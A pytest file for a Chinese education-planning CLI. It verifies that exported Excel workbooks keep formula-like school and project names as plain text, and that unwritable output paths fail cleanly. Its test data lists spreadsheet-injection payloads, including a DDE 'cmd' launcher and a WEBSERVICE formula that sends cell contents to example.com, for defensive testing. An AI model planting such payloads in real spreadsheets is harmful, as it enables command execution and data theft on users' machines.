"""Every workbook the product writes keeps text as text (issue 8 §4: formula injection), and an
output that cannot be written is a Chinese error that leaves nothing behind (§7).

Formula-like names are put into a copy of the demo store with SQL (the import refuses them), into a
supervisor's one-sheet file for `balance --input`, and into the bad cells and the name of a file
given to `import --report`; then every workbook is written through the CLI and scanned: no formula
element, no hyperlink, and each name present as a string cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import os
import shutil
import zipfile
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from typer.testing import CliRunner

from eduplan.cli.app import app
from eduplan.settings import use_settings_file
from eduplan.sheets import Col, OutputError, Styles, check_output, put, workbook, write_table
from eduplan.store import Store
from helpers import SMALL, write_one
from test_balance_input import FULL, ROWS

NAMES = [
    '=HYPERLINK("http://example.com/x","点我")',
    '=WEBSERVICE("http://example.com/?q="&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    " =2+2",
    "http://example.com/学校",
]
runner = CliRunner()


def invoke(*args) -> object:
    res = runner.invoke(app, [str(a) for a in args])
    use_settings_file(None)
    return res


# ------------------------------------------------------------------ scanning


def scan(path: Path) -> set[str]:
    """Assert `path` holds no formula and no hyperlink; return the texts of its string cells."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets, f"{path.name}: no worksheet"
        for n in sheets:
            xml = z.read(n).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, f"{path.name} {n}: formula cell"
            assert "<hyperlink" not in xml, f"{path.name} {n}: hyperlink"
        for n in names:
            if n.endswith(".rels"):
                assert "relationships/hyperlink" not in z.read(n).decode("utf-8"), f"{path.name} {n}: link"
    texts: set[str] = set()
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate}: formula {c.value!r}"
                assert c.hyperlink is None, f"{path.name} {ws.title}!{c.coordinate}: link"
                if c.data_type == "s" and c.value is not None:
                    texts.add(c.value)
    return texts


def contains(texts: set[str], name: str) -> bool:
    """`name` is a string cell, or part of one (e.g. “=HYPERLINK(…)（小学）”)."""
    return any(name in t for t in texts)


# ------------------------------------------------------------------ hostile inputs


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, demo_store) -> Path:
    """A copy of the demo store with every school, zone and project, the district and the free-text
    columns renamed to formula-like text, straight in SQL (the import would refuse such names)."""
    db = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    shutil.copy(demo_store, db)
    with Store(db) as s:
        con = s.con
        for table, key, column in (("school", "school_code", "school_name"), ("school", "school_code", "address"),
                                   ("zone", "zone_code", "zone_name"), ("project", "project_id", "project_name"),
                                   ("project", "project_id", "note"),
                                   ("balance_judgement", "item", "evidence"),
                                   ("balance_judgement", "item", "assessor")):
            keys = [r[0] for r in con.execute(f'SELECT DISTINCT "{key}" FROM "{table}" ORDER BY 1').fetchall()]
            assert len(keys) >= 3, (table, len(keys))
            for i, k in enumerate(keys):
                con.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE "{key}" = ?', [NAMES[i % len(NAMES)], k])
        con.execute("UPDATE district SET district_name = ?", [NAMES[0]])
    return db


def test_hostile_store_holds_the_names(hostile_db):
    with Store(hostile_db, read_only=True) as s:
        names = {r[0] for r in s.run("SELECT school_name FROM school")}
        assert names == set(NAMES)
        assert {r[0] for r in s.run("SELECT zone_name FROM zone")} <= set(NAMES)


def test_indicator_workbook(hostile_db, tmp_path):
    out = tmp_path / "indicators.xlsx"
    res = invoke("indicators", "--year", 2019, "--format", "xlsx", "--output", out, "--db", hostile_db)
    assert res.exit_code == 0, res.output
    texts = scan(out)
    missing = [n for n in NAMES if not contains(texts, n)]
    assert missing == []
    # title and provenance rows, headers on row 3, numbers as numbers in their unit's format
    ws = openpyxl.load_workbook(out)["区"]
    assert [c.value for c in ws[3]][:6] == ["指标", "计量单位", "区代码", "区", "分组", "数值"]
    values = [r[5] for r in ws.iter_rows(min_row=4) if r[5].value is not None]
    assert values and all(c.data_type == "n" and c.number_format in ("0.0%", "#,##0", "0.000", "#,##0.00", '0.0":1"',
                                                                     "#,##0.0") for c in values)


def test_balance_workbook_from_the_store(hostile_db, tmp_path):
    out = tmp_path / "balance.xlsx"
    res = invoke("balance", "--db", hostile_db, "--year", 2019, "--plan-fixes", "--format", "xlsx", "--output", out)
    assert res.exit_code == 0, res.output
    texts = scan(out)
    assert [n for n in NAMES if not contains(texts, n)] == []
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["概要", "差异系数", "学校", "方差贡献", "改进方案", "检查清单", "说明"]
    ws = wb["差异系数"]
    assert ws["A3"].value == "学段" and ws["H4"].data_type == "n" and ws["H4"].number_format == "0.000"
    # school names in the 学校 sheet are string cells, exactly as stored
    ws = wb["学校"]
    school_names = {r[2].value for r in ws.iter_rows(min_row=4, max_row=ws.max_row) if r[0].value in ("小学", "初中")}
    assert school_names == set(NAMES)
    assert ws.auto_filter.ref.startswith("A3:") and ws["E4"].data_type == "n" and ws["E4"].number_format == "#,##0"


def _supervisor_file(path: Path, names: list[str]) -> Path:
    rows = [list(ROWS[i % len(ROWS)]) for i in range(len(names))]
    for r, name in zip(rows, names):
        r[0] = name
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([FULL, *rows])
    return path


def test_balance_workbook_from_a_supervisor_file(tmp_path):
    src = _supervisor_file(tmp_path / "学校.csv", NAMES)
    out = tmp_path / "balance-input.xlsx"
    res = invoke("balance", "--input", src, "--format", "xlsx", "--output", out)
    names = NAMES
    if res.exit_code != 0:
        # the reader may refuse names that start like a formula; the rest must still come out as text
        assert "学校名称" in res.output and "Traceback" not in res.output, res.output
        names = [n for n in NAMES if n.lstrip()[:1] not in "=+-@" and not n.startswith("\t")]
        names += ["甲=HYPERLINK(\"http://example.com\")", "乙 +1+1"]
        res = invoke("balance", "--input", _supervisor_file(tmp_path / "学校2.csv", names), "--format", "xlsx",
                     "--output", out)
    assert res.exit_code == 0, res.output
    texts = scan(out)
    assert [n for n in names if not (contains(texts, n) or contains(texts, n.strip()))] == []


def test_projects_workbook(hostile_db, tmp_path):
    out = tmp_path / "projects.xlsx"
    res = invoke("projects", "--db", hostile_db, "--year", 2024, "--as-of", "2025-12-31", "--format", "xlsx",
                 "--output", out)
    assert res.exit_code == 0, res.output
    texts = scan(out)
    assert [n for n in NAMES if not contains(texts, n)] == []
    ws = openpyxl.load_workbook(out)["项目库"]  # the sheet's shape: title rows, header, freeze, numbers
    assert [c.value for c in ws[3]][:3] == ["项目编号", "项目名称", "类别"] and ws.freeze_panes == "C4"
    investments = [r[9] for r in ws.iter_rows(min_row=4) if r[9].value is not None]
    assert investments and all(c.data_type == "n" for c in investments)


def test_forecast_workbook(hostile_db, tmp_path):
    out = tmp_path / "forecast.xlsx"
    res = invoke("forecast", "--db", hostile_db, "--base-year", 2020, "--as-of", "2025-12-31", "--format", "xlsx",
                 "--output", out)
    assert res.exit_code == 0, res.output
    texts = scan(out)
    assert [n for n in NAMES if not contains(texts, n)] == []  # schools, zones and projects


def test_export_workbooks(hostile_db, tmp_path):
    res = invoke("export", "--all", "--output", tmp_path / "导出", "--db", hostile_db)
    assert res.exit_code == 0, res.output
    texts: set[str] = set()
    for p in sorted((tmp_path / "导出").iterdir()):
        texts |= scan(p)
    assert [n for n in NAMES if n not in texts] == []  # exactly as stored, for a re-import


def test_templates(tmp_path):
    res = invoke("template", "--all", "--output", tmp_path / "t")
    assert res.exit_code == 0, res.output
    paths = sorted((tmp_path / "t").iterdir())
    assert len(paths) == 17  # 16 source tables and the 优质均衡评估 sheet
    for p in paths:
        scan(p)


def test_import_issue_workbook(tmp_path):
    """Formula-like text in bad cells and in the file's own name stays text in the issue list."""
    rows = [dict(r) for r in SMALL["enrolment"]]
    for r, name in zip(rows, NAMES):
        r["female"] = name  # not a number: every one is an error whose value is the text
    src = write_one(tmp_path / "src", "enrolment", rows)
    hostile = src.with_name("=1+1 @SUM(1).xlsx")
    src.rename(hostile)
    out = tmp_path / "issues.xlsx"
    res = invoke("import", hostile, "--db", tmp_path / "a.duckdb", "--report", out)
    assert res.exit_code == 1
    texts = scan(out)
    assert "=1+1 @SUM(1).xlsx" in texts
    values = {r[6].value for r in openpyxl.load_workbook(out)["导入检查"].iter_rows(min_row=2)}
    assert [n for n in NAMES[:len(rows)] if n not in values and n.strip() not in values] == []


def test_demo_source_files_are_safe(demo_sources):
    """The filled source files the demo writes go through the same writer."""
    paths = sorted(demo_sources.glob("*.xlsx"))
    assert len(paths) >= 10
    for p in paths[:3]:
        scan(p)


# ------------------------------------------------------------------ unwritable output


def _commands(db: Path, out: Path, src: Path) -> dict[str, list]:
    return {
        "template": ["template", "分年级学生数", "--output", out],
        "indicators": ["indicators", "--db", db, "--year", 2019, "--format", "xlsx", "--output", out],
        "balance": ["balance", "--db", db, "--year", 2019, "--format", "xlsx", "--output", out],
        "balance --input": ["balance", "--input", src, "--format", "xlsx", "--output", out],
        "projects": ["projects", "--db", db, "--year", 2024, "--as-of", "2025-12-31", "--format", "xlsx",
                     "--output", out],
        "forecast": ["forecast", "--db", db, "--base-year", 2020, "--as-of", "2025-12-31", "--format", "xlsx",
                     "--output", out],
    }


def _tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def test_output_that_is_a_directory(tmp_path, demo_store):
    src = _supervisor_file(tmp_path / "学校.csv", ["甲小学", "乙小学", "丙学校", "丁中学"])
    out = tmp_path / "已有目录"
    out.mkdir()
    before = _tree(tmp_path)
    for label, args in _commands(demo_store, out, src).items():
        res = invoke(*args)
        assert res.exit_code == 1, (label, res.output)
        assert f"无法写出文件 {out}：该路径是一个目录，请给出文件名。未写出任何文件" in res.output.replace("\n", ""), label
        assert "Traceback" not in res.output
        assert _tree(tmp_path) == before, label


def test_output_below_a_file(tmp_path, demo_store):
    src = _supervisor_file(tmp_path / "学校.csv", ["甲小学", "乙小学", "丙学校", "丁中学"])
    (tmp_path / "报表").write_text("not a folder")
    out = tmp_path / "报表" / "子目录" / "x.xlsx"
    before = _tree(tmp_path)
    for label, args in _commands(demo_store, out, src).items():
        res = invoke(*args)
        assert res.exit_code == 1, (label, res.output)
        text = res.output.replace("\n", "")
        assert f"无法写出文件 {out}：上级路径 {tmp_path / '报表'} 是一个文件，不是目录" in text, (label, text)
        assert _tree(tmp_path) == before, label


def test_read_only_directory_in_process(tmp_path, monkeypatch):
    """A directory the user may not write to (simulated: the tests may run as root): the Chinese message
    names the file and the cause, exit code 1, and the folders the writer created are removed again."""
    import eduplan.sheets as sheets

    def denied(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(sheets.tempfile, "mkstemp", denied)
    out = tmp_path / "新目录" / "下一级" / "模板.xlsx"
    res = invoke("template", "分年级学生数", "--output", out)
    assert res.exit_code == 1
    assert f"无法写出文件 {out}：目录不可写（Permission denied）。未写出任何文件" in res.output.replace("\n", "")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to a read-only directory")
def test_read_only_directory(tmp_path):
    folder = tmp_path / "只读"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        out = folder / "模板.xlsx"
        res = invoke("template", "分年级学生数", "--output", out)
        assert res.exit_code == 1
        assert f"无法写出文件 {out}：目录不可写（Permission denied）" in res.output.replace("\n", "")
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)


def test_issue_report_to_a_directory(tmp_path):
    src = write_one(tmp_path / "src", "enrolment", [{**SMALL["enrolment"][0], "female": "八十"}])
    out = tmp_path / "清单"
    out.mkdir()
    res = invoke("import", src, "--db", tmp_path / "a.duckdb", "--report", out)
    assert res.exit_code == 1
    assert f"无法写出文件 {out}：该路径是一个目录" in res.output.replace("\n", "")
    assert list(out.iterdir()) == []


def test_failure_while_writing_keeps_the_old_file(tmp_path):
    path = tmp_path / "报表.xlsx"
    path.write_bytes(b"old")
    mode = path.stat().st_mode & 0o777
    with pytest.raises(RuntimeError):
        with workbook(path) as wb:
            wb.add_worksheet("表")
            raise RuntimeError("boom")
    assert path.read_bytes() == b"old" and [p.name for p in tmp_path.iterdir()] == ["报表.xlsx"]
    with workbook(path) as wb:
        write_table(wb, Styles(wb), "表", [Col("名称")], [["甲"]])
    assert openpyxl.load_workbook(path)["表"]["A2"].value == "甲"
    assert [p.name for p in tmp_path.iterdir()] == ["报表.xlsx"]
    assert path.stat().st_mode & 0o777 == mode  # not the temporary file's private 0600


def test_check_output_leaves_nothing(tmp_path):
    check_output(tmp_path / "a" / "b" / "x.xlsx")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(OutputError, match="该路径是一个目录"):
        check_output(tmp_path)


def test_disk_full_message(tmp_path, monkeypatch):
    import eduplan.sheets as sheets

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sheets.tempfile, "mkstemp", full)
    with pytest.raises(OutputError) as e:
        with workbook(tmp_path / "x.xlsx"):
            pass
    assert str(e.value) == (f"无法写出文件 {tmp_path / 'x.xlsx'}：磁盘空间不足（No space left on device）。"
                            "未写出任何文件；请换一个可写的位置后重试。")


# ------------------------------------------------------------------ cells


def test_put_writes_each_type_as_itself(tmp_path):
    path = tmp_path / "cells.xlsx"
    values = [None, "", float("nan"), float("inf"), True, np.False_, np.int64(7), np.float64(2.5), Decimal("1.25"),
              dt.date(2025, 9, 1), dt.datetime(2025, 9, 1, 8, 30), 12345678901234567, "=1+1", "0123", "http://x.cn"]
    with workbook(path) as wb:
        ws = wb.add_worksheet("s")
        for j, v in enumerate(values):
            put(ws, 0, j, v)
    cells = list(openpyxl.load_workbook(path)["s"].iter_rows(max_row=1))[0]
    got = [(c.data_type, c.value) for c in cells]
    assert got == [("n", None), ("n", None), ("n", None), ("n", None), ("s", "是"), ("s", "否"), ("n", 7),
                   ("n", 2.5), ("n", 1.25), ("s", "2025-09-01"), ("s", "2025-09-01 08:30:00"),
                   ("s", "12345678901234567"), ("s", "=1+1"), ("s", "0123"), ("s", "http://x.cn")]
    scan(path)
